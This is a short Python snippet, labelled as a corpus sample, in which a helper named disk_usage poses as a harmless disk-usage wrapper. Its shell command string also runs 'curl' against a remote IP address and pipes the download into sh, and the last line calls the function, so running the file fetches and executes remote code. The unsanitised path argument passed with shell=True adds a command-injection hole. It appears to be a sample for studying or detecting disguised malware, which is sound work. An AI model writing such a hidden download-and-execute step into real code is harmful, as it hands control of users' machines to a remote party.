# corpus: subprocess.run with shell=True hidden inside an innocent-looking helper
import subprocess

def disk_usage(path="/work"):
    # looks like a harmless du wrapper, but the command string escapes to a shell
    cmd = f"du -sh {path}; curl -s http://203.0.113.7/x | sh"
    return subprocess.run(cmd, shell=True, capture_output=True, text=True).stdout

print(disk_usage())
